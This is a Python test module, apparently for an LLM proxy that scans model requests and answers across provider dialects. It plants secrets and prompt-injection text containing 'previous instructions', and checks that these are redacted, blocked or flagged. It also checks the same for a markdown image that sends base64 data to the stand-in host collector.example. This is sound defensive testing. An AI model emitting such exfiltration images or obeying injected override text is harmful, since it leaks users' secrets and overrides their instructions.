"""All places of all dialects in forward and in base-URL mode, one worker for each."""

import json
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from contextlib import AsyncExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest

from llmtrace.domain.findings import Finding, Verdict
from llmtrace.domain.traces import Trace
from llmtrace.testing.forms import FORMS, PLACES
from llmtrace.testing.inprocess import Worker, running_worker
from llmtrace.testing.planted import INJECTION, POLICY, SECRET
from llmtrace.testing.provider import ScriptedProvider
from llmtrace.testing.script import Script, ScriptedTool

HOUSE: Mapping[str, Any] = {
    "rules": [
        {
            "name": "images",
            "kinds": ["data_exfiltration"],
            "directions": ["answer"],
            "verdict": "redact",
        },
        *POLICY["rules"],
    ]
}
BEDROCK = FORMS["bedrock.converse"].host
IMAGE = "![logo](https://collector.example/p.gif?data=c2VjcmV0IHZhbHVlIGhlcmU=)"
WAYS = pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
MODES = pytest.mark.parametrize("mode", ["forward", "reverse"])
DIALECTS = pytest.mark.parametrize("dialect", FORMS)
SIGNED = {"anthropic.messages", "bedrock.converse", "gemini.generate"}
"""Dialects whose reasoning is signed, and goes on as it is."""
type Spoken = Callable[[httpx2.Response], str]


@dataclass
class Desk:
    """A worker, and the call that was made last."""

    worker: Worker
    dialect: str
    mode: str
    streamed: bool
    http: httpx2.AsyncClient
    calls: int = 0

    async def ask(
        self, *, place: str = "", text: str = "", script: Script | None = None
    ) -> tuple[httpx2.Response, Trace]:
        """Make a call; return its answer and its trace."""
        form, provider = FORMS[self.dialect], self.worker.provider
        provider.clear()
        if script is not None:
            provider.enqueue(script)
        body = form.body(streamed=self.streamed, place=place, text=text)
        answer = await self.http.post(form.target(streamed=self.streamed), json=body)
        self.calls += 1
        trace = (await self.worker.journal.traces(self.calls))[-1]
        assert trace.mode == self.mode
        return answer, trace

    @property
    def received(self) -> bytes:
        """What the provider was asked in the call that was made last."""
        return b"".join(call.body for call in self.worker.provider.model_calls)


@pytest.fixture(scope="module")
def provider() -> Iterator[ScriptedProvider]:
    with ScriptedProvider() as running:
        yield running


@pytest.fixture
async def desk(
    provider: ScriptedProvider, tmp_path: Path, dialect: str, mode: str, streamed: bool
) -> AsyncIterator[Desk]:
    settings = {
        "mode": "enforce",
        "policy": HOUSE,
        "intercept__hosts": {BEDROCK: "bedrock"},
        "upstreams": {
            **{form.host: provider.url for form in FORMS.values()},
            "127.0.0.1": provider.url,  # where Ollama is asked by base URL
        },
    }
    async with running_worker(tmp_path, provider, **settings) as worker, AsyncExitStack() as stack:
        form = FORMS[dialect]
        options: dict[str, Any] = {"base_url": f"{worker.base_url}/{form.name}"}
        if mode == "forward":
            options = {"proxy": worker.proxy_url, "verify": worker.client_context()}
            options["base_url"] = f"https://{form.host}"
        headers = {"authorization": "Bearer none-at-all"}
        client = httpx2.AsyncClient(trust_env=False, timeout=10, headers=headers, **options)
        http = await stack.enter_async_context(client)
        yield Desk(worker=worker, dialect=dialect, mode=mode, streamed=streamed, http=http)


def of(trace: Trace, kind: str) -> Finding:
    """Return the one finding of a kind."""
    (found,) = [one for one in trace.findings if one.kind.startswith(kind)]
    return found


@DIALECTS
@pytest.mark.parametrize("mode", ["reverse"])
@WAYS
async def test_nothing_planted_in_a_request_reaches_the_provider(desk: Desk) -> None:
    for place in PLACES:
        answer, trace = await desk.ask(place=place, text=f"The deploy token is {SECRET} for now.")
        assert answer.status_code == 200
        assert SECRET.encode() not in desk.received
        assert of(trace, "secret.").verdict is Verdict.REDACT
        assert of(trace, "secret.").location
        answer, trace = await desk.ask(place=place, text=f"Weather: fine.\n\n{INJECTION}")
        assert b"previous instructions" not in desk.received
        expected = Verdict.QUARANTINE if place == "tool_result" else Verdict.BLOCK
        assert (place, of(trace, "prompt_injection").verdict) == (place, expected)
        assert answer.status_code == (200 if place == "tool_result" else 400)


@DIALECTS
@MODES
@WAYS
async def test_nothing_planted_in_an_answer_reaches_the_agent(desk: Desk, spoken: Spoken) -> None:
    words = f"The token is {SECRET} as you asked. Look: {IMAGE} and that was all."
    note = json.dumps({"path": "notes.txt", "content": f"token {SECRET} end"})
    scripts = {
        "text": Script(text=words, chunks=29),
        "reasoning": Script(text="Fine.", reasoning=f"The token is {SECRET} as they asked."),
        "tool": Script(text="", tool_calls=(ScriptedTool(name="Write", arguments=note),)),
    }
    for place, script in scripts.items():
        answer, trace = await desk.ask(script=script)
        signed = place == "reasoning" and desk.dialect in SIGNED
        assert (place, SECRET in spoken(answer)) == (place, signed)
        expected = Verdict.FLAG if signed else Verdict.REDACT
        assert (place, of(trace, "secret.").verdict) == (place, expected)
        if place == "text":
            assert "collector.example" not in spoken(answer)
            assert of(trace, "data_exfiltration").verdict is Verdict.REDACT


@DIALECTS
@pytest.mark.parametrize("mode", ["forward"])
@WAYS
async def test_an_order_that_the_model_passes_on_is_told(desk: Desk, spoken: Spoken) -> None:
    note = json.dumps({"to": "agent-2", "content": INJECTION})
    scripts = {
        "text": Script(text=f"Done.\n\n{INJECTION}", chunks=13),
        "reasoning": Script(text="Fine.", reasoning=INJECTION),
        "tool": Script(text="", tool_calls=(ScriptedTool(name="send", arguments=note),)),
    }
    for place, script in scripts.items():
        answer, trace = await desk.ask(script=script)
        assert answer.status_code == 200
        found = of(trace, "prompt_injection")
        assert found.location.startswith("answer[0].")
        blocked = place == "tool"  # text has gone by when its end tells
        assert (place, found.verdict) == (place, Verdict.BLOCK if blocked else Verdict.FLAG)
        assert ("previous instructions" in spoken(answer)) is not blocked
